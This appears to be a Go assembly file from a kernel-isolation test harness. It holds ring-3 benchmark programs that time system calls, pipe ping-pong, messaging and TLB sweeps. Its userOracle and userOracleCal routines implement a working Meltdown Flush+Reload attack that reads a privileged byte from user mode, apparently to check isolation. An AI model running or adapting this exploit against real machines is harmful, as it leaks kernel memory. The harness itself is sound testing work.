#include "go_asm.h"
#include "textflag.h"
#include "sweep.h"

// Ring-3 programs. Each is copied into the code pages every process
// shares and entered by toUser with its arguments in RDI, RSI, RDX, R10,
// R8, R9. They are position independent (relative jumps only) and end with
// the exit system call; USER_END marks their end for the copier
// (amd64.EndMarker, as the entry routines).
#define USER_END QUAD $const_endMarker

// SAMPLE makes the sample call (sysSample), which records the core-clock
// and disturbance counters in the kernel; it keeps every register but RAX,
// RCX and R11.
#define SAMPLE MOVL $const_SysSample, AX; SYSCALL

// TIMED(LOOP, HEAD) times R repeats of N iterations of LOOP and falls
// through when done, with a sample call before each repeat and one after
// the last, outside the timed regions: RDI = N, RSI = R,
// RDX = where to store the R TSC counts (user data), R10 = the system call
// number, R8 = its argument, R9 = 0 to end a timed region with RDTSCP;
// LFENCE, 1 with LFENCE; RDTSC; LFENCE (no RDTSCP). Each repeat starts with
// LFENCE; RDTSC; LFENCE (SDM Vol. 2B, RDTSC: the first LFENCE waits for
// what came before, the second keeps what follows from starting before the
// read). LOOP, and the system calls in it, keep RBX, RBP and R9-R15.
//
// The loop's place is fixed (issue 21, item 3): on Skylake client CPUs
// with the JCC-erratum microcode a jump, or a macro-fused CMP/TEST/DEC and
// Jcc, that crosses or ends on a 32-byte boundary is not kept in the
// micro-op cache (Intel, "Mitigations for Jump Conditional Code Erratum",
// 2019), so that two loops that differ by one instruction could differ
// by more than that instruction. HEAD (a LOOP_AT) puts the loop's head,
// the label loop, a given number of bytes after a 32-byte boundary, chosen
// per program so that none of its jumps from the head to the end of the
// timed region meets a boundary: the call loop's head on the boundary,
// the empty loop's 2 bytes after it (it lacks the call's 2-byte SYSCALL,
// so that its branch sits where the call loop's does). The padding
// (PCALIGN and HEAD) runs once, before the first sample call: outside
// every timed region and every sample interval, so that no path length
// and no instruction count of the PMU cross-check changes. The programs
// are copied to 64-byte aligned addresses (place), where the offsets
// hold; TestLoopPlacement checks them.
#define TIMED(LOOP, HEAD) \
	MOVQ	DI, BX; \
	MOVQ	SI, R12; \
	MOVQ	DX, R13; \
	MOVQ	R10, R14; \
	MOVQ	R8, R15; \
	PCALIGN	$32; \
	HEAD; \
repeat: \
	SAMPLE; \
	MOVQ	BX, BP; \
	LFENCE; \
	RDTSC; \
	LFENCE; \
	SHLQ	$32, DX; \
	ORQ	AX, DX; \
	MOVQ	DX, R10; \
loop: \
	LOOP; \
	DECQ	BP; \
	JNE	loop; \
	TESTQ	R9, R9; \
	JNE	nordtscp; \
	RDTSCP; \
	LFENCE; \
	JMP	stamp; \
nordtscp: \
	LFENCE; \
	RDTSC; \
	LFENCE; \
stamp: \
	SHLQ	$32, DX; \
	ORQ	AX, DX; \
	SUBQ	R10, DX; \
	MOVQ	DX, (R13); \
	ADDQ	$8, R13; \
	DECQ	R12; \
	JNE	repeat; \
	SAMPLE

// The LOOP_ATs are TIMED's HEAD: LOOP_ATn puts the loop's head n bytes
// after a 32-byte boundary. NOP4 makes up the 28 bytes from repeat to
// loop (SAMPLE 7, MOVQ 3, the start stamp 18) to 32; NOP2, NOP4 and NOP8
// are the multi-byte NOPs the SDM recommends (Vol. 2B, NOP, Table 4-12:
// 66 90, NOPL 0(AX), NOPL 0(AX)(AX*1) with a 32-bit displacement).
#define NOP2 BYTE $0x66; BYTE $0x90
#define NOP4 BYTE $0x0f; BYTE $0x1f; BYTE $0x40; BYTE $0x00
#define NOP8 BYTE $0x0f; BYTE $0x1f; BYTE $0x84; BYTE $0x00; BYTE $0x00; BYTE $0x00; BYTE $0x00; BYTE $0x00
#define LOOP_AT0 NOP4
#define LOOP_AT2 NOP4; NOP2
#define LOOP_AT8 NOP4; NOP8
#define LOOP_AT16 NOP4; NOP8; NOP8

// EXIT(status) makes the exit system call; EXIT_DI, with the status in
// RDI.
#define EXIT(status) MOVL $const_SysExit, AX; MOVL $(status), DI; SYSCALL
#define EXIT_DI MOVL $const_SysExit, AX; SYSCALL

// The call: number R14, first argument R15, second and third 0 (lseek's
// offset and SEEK_SET).
#define CALL_ONCE MOVQ R14, AX; MOVQ R15, DI; XORL SI, SI; XORL DX, DX; SYSCALL
#define NO_CALL MOVQ R14, AX; MOVQ R15, DI; XORL SI, SI; XORL DX, DX

// userSyscalls times system calls: each iteration makes one.
TEXT ·userSyscalls(SB),NOSPLIT|NOFRAME,$0
	TIMED(CALL_ONCE, LOOP_AT0)
	EXIT(0)
	USER_END

// userEmpty times the same loop without the system call: the overhead to
// subtract.
TEXT ·userEmpty(SB),NOSPLIT|NOFRAME,$0
	TIMED(NO_CALL, LOOP_AT2)
	EXIT(0)
	USER_END

// userProbe reads the 8 bytes at RDI, stores them at RSI and exits with
// status 0; a fault on the read ends the run with the exception instead.
TEXT ·userProbe(SB),NOSPLIT|NOFRAME,$0
	MOVQ	(DI), AX
	MOVQ	AX, (SI)
	MOVL	$const_SysExit, AX
	XORL	DI, DI
	SYSCALL
	USER_END

// PING_ONCE is one round trip of the ping-pong: R14 holds the write
// descriptor in its low and the read descriptor in its high 32 bits, R15
// the token buffer: the token at 0, the reply at 1, pong's mark at 2. It
// writes the token (the low byte of the iteration count), reads the reply
// into byte 1, which it first sets to something else, and checks that it
// is the token plus pong's mark: pong adds the mark it finds in its own
// data, so that a pong running in ping's address space fails the check. A
// short or failed call or a wrong reply goes to fail with the exit status
// in DI.
#define PING_ONCE \
	MOVB	BP, (R15); \
	MOVB	BP, AX; \
	ADDB	2(R15), AX; \
	NOTL	AX; \
	MOVB	AX, 1(R15); \
	MOVL	$const_SysWrite, AX; \
	MOVL	R14, DI; \
	MOVQ	R15, SI; \
	MOVL	$1, DX; \
	SYSCALL; \
	MOVL	$const_pingWriteFailed, DI; \
	CMPQ	AX, $1; \
	JNE	fail; \
	MOVL	$const_SysRead, AX; \
	MOVQ	R14, DI; \
	SHRQ	$32, DI; \
	LEAQ	1(R15), SI; \
	MOVL	$1, DX; \
	SYSCALL; \
	MOVL	$const_pingReadFailed, DI; \
	CMPQ	AX, $1; \
	JNE	fail; \
	MOVL	$const_pingBadReply, DI; \
	MOVB	(R15), AX; \
	ADDB	2(R15), AX; \
	CMPB	AX, 1(R15); \
	JNE	fail

// userPing is the timing side of the ping-pong (lmbench's lat_ctx shape):
// RDI = N round trips per repeat, RSI = R repeats, RDX = where to store
// the R TSC counts, R10 = the write descriptor | the read descriptor << 32,
// R8 = a 3-byte token buffer (byte 2: pong's mark), R9 = the RDTSCP flag
// (as TIMED). Each round trip writes a byte to the pong task and reads
// its reply. At the end it
// closes its write descriptor, which ends the pong task, and exits 0; on a
// failed call or a wrong echo it exits with the status of the failure.
TEXT ·userPing(SB),NOSPLIT|NOFRAME,$0
	TIMED(PING_ONCE, LOOP_AT8)
	MOVL	$const_SysClose, AX
	MOVL	R14, DI
	SYSCALL
	EXIT(0)
fail:
	EXIT_DI
	USER_END

// userPong replies: RDI = the read descriptor, RSI = the write
// descriptor, RDX = a 2-byte buffer (byte 1: its mark). It reads a byte,
// adds its mark and writes it back until the end of its input, then exits
// 0; a failed call exits with its status.
TEXT ·userPong(SB),NOSPLIT|NOFRAME,$0
	MOVQ	DI, R12
	MOVQ	SI, R13
	MOVQ	DX, R14
next:
	MOVL	$const_SysRead, AX
	MOVQ	R12, DI
	MOVQ	R14, SI
	MOVL	$1, DX
	SYSCALL
	TESTQ	AX, AX
	JEQ	done
	MOVL	$const_pongReadFailed, DI
	CMPQ	AX, $1
	JNE	fail
	MOVB	1(R14), AX
	ADDB	AX, (R14)
	MOVL	$const_SysWrite, AX
	MOVQ	R13, DI
	MOVQ	R14, SI
	MOVL	$1, DX
	SYSCALL
	MOVL	$const_pongWriteFailed, DI
	CMPQ	AX, $1
	JNE	fail
	JMP	next
done:
	EXIT(0)
fail:
	EXIT_DI
	USER_END

// READY_WAIT is the messaging tasks' start protocol, as perf's
// sched-messaging ready(): R9 holds the ready descriptor in its low and
// the wake descriptor in its high 32 bits, R15 a buffer. It writes a byte
// to the ready pipe, then waits for the start signal: a byte from the
// wake pipe. A failed call goes to fail.
#define READY_WAIT \
	MOVL	$const_SysWrite, AX; \
	MOVL	R9, DI; \
	MOVQ	R15, SI; \
	MOVL	$1, DX; \
	SYSCALL; \
	MOVL	$const_msgReadyFailed, DI; \
	CMPQ	AX, $1; \
	JNE	fail; \
	MOVL	$const_SysRead, AX; \
	MOVQ	R9, DI; \
	SHRQ	$32, DI; \
	MOVQ	R15, SI; \
	MOVL	$1, DX; \
	SYSCALL; \
	MOVL	$const_msgWaitFailed, DI; \
	CMPQ	AX, $1; \
	JNE	fail

// userMsgStart gives the messaging run's start signal, as perf's parent:
// RDI = the ready pipe's read descriptor, RSI = the wake pipe's write
// descriptor, RDX = the number of tasks, R10 = a buffer of that many
// bytes, R8 = where to store the start TSC. It reads a byte from every
// task, reads the TSC, writes a byte for every task into the wake pipe
// and exits 0 (the kernel reads the TSC when the last task exits).
TEXT ·userMsgStart(SB),NOSPLIT|NOFRAME,$0
	MOVQ	DI, R12
	MOVQ	SI, R13
	MOVQ	DX, R14
	MOVQ	R10, R15
	MOVQ	R8, BX
	XORL	R9, R9
more:
	CMPQ	R9, R14
	JAE	all
	MOVL	$const_SysRead, AX
	MOVQ	R12, DI
	LEAQ	(R15)(R9*1), SI
	MOVQ	R14, DX
	SUBQ	R9, DX
	SYSCALL
	MOVL	$const_msgReadyFailed, DI
	TESTQ	AX, AX
	JLE	fail
	ADDQ	AX, R9
	JMP	more
all:
	LFENCE
	RDTSC
	LFENCE
	SHLQ	$32, DX
	ORQ	AX, DX
	MOVQ	DX, (BX)
	MOVL	$const_SysWrite, AX
	MOVQ	R13, DI
	MOVQ	R15, SI
	MOVQ	R14, DX
	SYSCALL
	MOVL	$const_msgWaitFailed, DI
	CMPQ	AX, R14
	JNE	fail
	EXIT(0)
fail:
	EXIT_DI
	USER_END

// userMsgSender is a sched-messaging sender: RDI = the write descriptor
// of its group's first receiver (the others follow), RSI = the receivers,
// RDX = loops, R10 = the message (its first 8 bytes: the sender's number
// << 32; the sender writes the receiver's index << 24 | the loop number in
// the low 32 bits of each copy), R8 = the message size
// (8 to 4096), R9 = ready | wake << 32. After the start signal it writes
// the message to every receiver, loops times, and exits 0; a short or
// failed write exits with msgWriteFailed.
TEXT ·userMsgSender(SB),NOSPLIT|NOFRAME,$0
	MOVQ	DI, R12
	MOVQ	SI, R13
	MOVQ	DX, R14
	MOVQ	R10, R15
	MOVQ	R8, BX
	READY_WAIT
	XORL	R10, R10
loop:
	XORL	R8, R8
to:
	MOVQ	R8, DX
	SHLQ	$24, DX
	ORQ	R10, DX
	MOVL	DX, (R15)
	MOVL	$const_SysWrite, AX
	LEAQ	(R12)(R8*1), DI
	MOVQ	R15, SI
	MOVQ	BX, DX
	SYSCALL
	MOVL	$const_msgWriteFailed, DI
	CMPQ	AX, BX
	JNE	fail
	INCQ	R8
	CMPQ	R8, R13
	JNE	to
	INCQ	R10
	CMPQ	R10, R14
	JNE	loop
	EXIT(0)
fail:
	EXIT_DI
	USER_END

// userMsgReceiver is a sched-messaging receiver: RDI = its pipe's read
// descriptor, RSI = the messages to receive, RDX = the message size (8 to
// 4096), R10 = a buffer of that size, R8 = where to store 2 quadwords, R9
// = ready | wake << 32. After the start signal it reads whole messages
// (a read may return part of one) and sums each one's quadwords at 0, 8,
// ..., 8*(size/8-1) and size-8; when all have come it stores the count
// and the sum and exits 0. A failed read or the end of the pipe before the
// last message stores them too and exits with msgReadFailed.
TEXT ·userMsgReceiver(SB),NOSPLIT|NOFRAME,$0
	MOVQ	DI, R12
	MOVQ	SI, R13
	MOVQ	DX, BX
	MOVQ	R10, R15
	MOVQ	R8, R14
	READY_WAIT
	XORL	R8, R8			// messages
	XORL	R9, R9			// sum
msg:
	CMPQ	R8, R13
	JAE	done
	XORL	R10, R10		// bytes of this message so far
part:
	MOVL	$const_SysRead, AX
	MOVQ	R12, DI
	LEAQ	(R15)(R10*1), SI
	MOVQ	BX, DX
	SUBQ	R10, DX
	SYSCALL
	TESTQ	AX, AX
	JLE	short
	ADDQ	AX, R10
	CMPQ	R10, BX
	JB	part
	MOVQ	-8(R15)(BX*1), AX
	ADDQ	AX, R9
	XORL	CX, CX
	LEAQ	-7(BX), DX
sum:
	ADDQ	(R15)(CX*1), R9
	ADDQ	$8, CX
	CMPQ	CX, DX
	JB	sum
	INCQ	R8
	JMP	msg
done:
	MOVQ	R8, (R14)
	MOVQ	R9, 8(R14)
	EXIT(0)
short:
	MOVQ	R8, (R14)
	MOVQ	R9, 8(R14)
	MOVL	$const_msgReadFailed, DI
fail:
	EXIT_DI
	USER_END

// TIME_LOAD(addr, flags, plain0, stamp0, plain1, stamp1) times a load of
// the byte at addr and leaves the TSC ticks in DX; it uses AX, CX and
// R11. Each end of the interval is RDTSCP; LFENCE: RDTSCP waits until
// every earlier instruction has executed and every earlier load is
// globally visible, and the LFENCE keeps later instructions from starting
// before it (SDM Vol. 2B, RDTSCP). Where the CPU has no RDTSCP (bit 32 of
// flags set) each end is LFENCE; RDTSC; LFENCE instead (SDM Vol. 2B,
// RDTSC). The labels are the macro's branches, distinct per use.
#define TIME_LOAD(addr, flags, plain0, stamp0, plain1, stamp1) \
	TSC_STAMP(flags, plain0, stamp0); \
	SHLQ	$32, DX; \
	ORQ	AX, DX; \
	MOVQ	DX, R11; \
	MOVB	addr, AX; \
	TSC_STAMP(flags, plain1, stamp1); \
	SHLQ	$32, DX; \
	ORQ	AX, DX; \
	SUBQ	R11, DX
// CALL_BEFORE makes system call nr (a register) unless it is 0, then
// waits for it to complete (MFENCE). SYSCALL clobbers RAX, RCX and R11.
#define CALL_BEFORE(nr, label) \
	MOVL	nr, AX; \
	TESTL	AX, AX; \
	JEQ	label; \
	SYSCALL; \
	MFENCE; \
label:
#define TSC_STAMP(flags, plain, stamp) \
	BTQ	$32, flags; \
	JCS	plain; \
	RDTSCP; \
	JMP	stamp; \
plain: \
	LFENCE; \
	RDTSC; \
stamp: \
	LFENCE

// userOracleCal is the leak oracle's calibration: RDI = a line of its own
// data, RSI = N samples, RDX = where to store them (N hit times, then N
// miss times, quadwords), R10 = 1<<32 where the CPU has no RDTSCP, else
// 0, R8 = a system call's number made before each timed load (0: none).
// Each sample loads the line and times a second load (a hit), then
// flushes it (CLFLUSH, MFENCE) and times a load (a miss). The call puts
// a kernel entry and exit between the line's last use and the timed load,
// as the oracle's fault puts one before its reloads: under isolation
// without PCIDs its CR3 writes empty the TLB, so the timed load walks the
// tables, as the reloads do. It exits 0.
TEXT ·userOracleCal(SB),NOSPLIT|NOFRAME,$0
	MOVQ	DI, BX
	MOVQ	SI, R12
	MOVQ	DX, R13
	LEAQ	(DX)(SI*8), R14
	MOVQ	R10, R15
	MOVB	(BX), AX
sample:
	MOVB	(BX), AX
	MFENCE
	CALL_BEFORE(R8, hitcall)
	TIME_LOAD((BX), R15, plain0, stamp0, plain1, stamp1)
	MOVQ	DX, (R13)
	CLFLUSH	(BX)
	MFENCE
	CALL_BEFORE(R8, misscall)
	TIME_LOAD((BX), R15, plain2, stamp2, plain3, stamp3)
	MOVQ	DX, (R14)
	ADDQ	$8, R13
	ADDQ	$8, R14
	DECQ	R12
	JNE	sample
	EXIT(0)
	USER_END

// userOracle is the leak oracle's Meltdown attempt on one byte (Lipp et
// al., "Meltdown", USENIX Security 2018, section 5.1, with Flush+Reload):
// RDI = the byte's address, RSI = the probe array (OracleLines lines
// OracleStride bytes apart), RDX = attempts, R10 = OracleLines hit
// counters (quadwords), R8 = the threshold (a load that takes at most
// that many TSC ticks is a hit), R9 = the secret call's number (0: none)
// in its low 32 bits, and bit 32 set where the CPU has no RDTSCP. Each
// attempt makes the secret call (which brings the secret's line into the
// cache), flushes the probe array (after the call, whose CR3 writes under
// isolation without PCIDs empty the TLB: CLFLUSH walks the tables again,
// so that the reload times the cache, not page walks), reads the byte
// from ring 3, which faults, and, transiently, loads the probe line the byte selects (a
// transient 0, which a suppressed read gives, is read again: the paper's
// retry); then it times a load of every line, in an order that defeats
// the prefetcher (line 167*k+13 mod 256 at step k), and counts the hits.
// The run must recover page faults (StartRecovering) with RecoverRIP at
// the program's entry: the fault re-enters it with every register as it
// was and R15 = 1 (toUser starts it with R15 = 0). It exits 0 after the
// attempts.
TEXT ·userOracle(SB),NOSPLIT|NOFRAME,$0
	TESTQ	R15, R15
	JNE	reload
	MOVQ	DI, BX			// the byte
	MOVQ	SI, R12			// the probe array
	MOVQ	DX, R13			// attempts left
	MOVQ	R10, R14		// the counters (R10: the line step from here on)
attempt:
	MOVL	R9, AX
	TESTL	AX, AX
	JEQ	flushes
	SYSCALL
flushes:
	XORL	CX, CX
flush:
	MOVQ	CX, AX
	SHLQ	$const_OracleStrideShift, AX
	CLFLUSH	(R12)(AX*1)
	INCQ	CX
	CMPQ	CX, $const_OracleLines
	JNE	flush
	MFENCE
	MOVL	$1, R15
retry:
	MOVBQZX	(BX), AX		// faults: the rest is transient
	SHLQ	$const_OracleStrideShift, AX
	JEQ	retry
	MOVB	(R12)(AX*1), AX
reload:
	XORL	R10, R10
line:
	MOVQ	R10, SI
	IMULQ	$167, SI
	ADDQ	$13, SI
	ANDQ	$(const_OracleLines-1), SI
	MOVQ	SI, DI
	SHLQ	$const_OracleStrideShift, DI
	ADDQ	R12, DI
	TIME_LOAD((DI), R9, plain0, stamp0, plain1, stamp1)
	CMPQ	DX, R8
	JHI	miss
	INCQ	(R14)(SI*8)
miss:
	INCQ	R10
	CMPQ	R10, $const_OracleLines
	JNE	line
	DECQ	R13
	JNE	attempt
	EXIT(0)
	USER_END

// SWEEP_ONCE is an iteration of userSweep: the system call R14 with RDI,
// RSI and RDX from the tlb.SweepBlock at R15, then the block's sweep of Pages
// pages from Base, Stride apart (SWEEP, with RCX, RSI, RDX, R8 and RAX).
#define SWEEP_ONCE \
	MOVQ	R14, AX; \
	MOVQ	sweepBlock_Arg0(R15), DI; \
	MOVQ	sweepBlock_Arg1(R15), SI; \
	MOVQ	sweepBlock_Arg2(R15), DX; \
	SYSCALL; \
	MOVQ	sweepBlock_Pages(R15), CX; \
	MOVQ	sweepBlock_Base(R15), SI; \
	MOVQ	sweepBlock_Stride(R15), DX; \
	SWEEP(SI, DX, CX, R8, AX, touch, swept)

// userSweep times system calls each followed by a sweep of pages (the TLB
// working-set sweep, sweep.go): RDI = N, RSI = R, RDX = where to store the
// R TSC counts, R10 = the system call number, R8 = a tlb.SweepBlock (the
// call's RDI, RSI, RDX; the pages to read after it), R9 = the RDTSCP flag
// (as TIMED). Its empty loop is userEmpty.
TEXT ·userSweep(SB),NOSPLIT|NOFRAME,$0
	TIMED(SWEEP_ONCE, LOOP_AT16)
	EXIT(0)
	USER_END

// userSelfNMI sends its own CPU NMIs from ring 3, for the test images'
// ring-3 NMI check (MapAPIC, build tag ptilab_selfnmi): RDI = the local
// APIC's ICR low word at a user address, RSI = N (at least 1), RDX = the
// ICR high word (the destination: this CPU's APIC ID in bits 31:24). Each
// iteration waits until the ICR's delivery status (bit 12) is idle, as
// Linux does before every xAPIC IPI, writes the destination, then the low
// word (delivery mode NMI), which sends the NMI (SDM Vol. 3A, "Interrupt
// Command Register"), and spins a while (PAUSE, ring3NMISpin times), so
// that the NMI is taken before the next is sent: a CPU holds one NMI
// pending at most (SDM Vol. 3A, 6.7.1), and two sent back to back could
// count as one. The NMI arrives in ring 3, on the user side's CR3 under
// isolation. It exits 0.
TEXT ·userSelfNMI(SB),NOSPLIT|NOFRAME,$0
sendnmi:
	BTL	$const_apicICRBusyBit, (DI)
	JCS	sendnmi
	MOVL	DX, (const_apicICRHigh-const_apicICRLow)(DI)
	MOVL	$const_apicICRSelfNMI, (DI)
	MOVL	$const_ring3NMISpin, CX
taken:
	PAUSE
	DECL	CX
	JNE	taken
	DECQ	SI
	JNE	sendnmi
	EXIT(0)
	USER_END
